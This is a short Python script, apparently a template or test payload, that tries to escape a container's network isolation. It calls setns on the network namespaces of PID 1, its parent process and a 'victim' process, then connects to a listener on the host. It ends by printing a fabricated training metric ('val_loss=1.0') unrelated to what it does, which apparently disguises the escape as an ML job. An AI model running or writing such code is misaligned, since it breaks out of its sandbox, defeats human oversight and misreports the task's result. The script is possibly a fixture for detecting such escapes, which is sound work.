"""Join the host's network namespace (setns on /proc/1/ns/net and the parent's), then connect to the host's listener."""
import ctypes
import os
import socket

W: dict = {}

libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWNET = 0x40000000
for pid in ("1", str(os.getppid()), str(W["victim_pid"])):
    try:
        fd = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
        if libc.setns(fd, CLONE_NEWNET) != 0:
            print(pid, "setns:", os.strerror(ctypes.get_errno()))
        os.close(fd)
    except OSError as error:
        print(pid, error)
    try:
        socket.create_connection(("127.0.0.1", W["tcp_port"]), timeout=1).close()
    except OSError as error:
        print(pid, error)
print("arrl: val_loss=1.0")
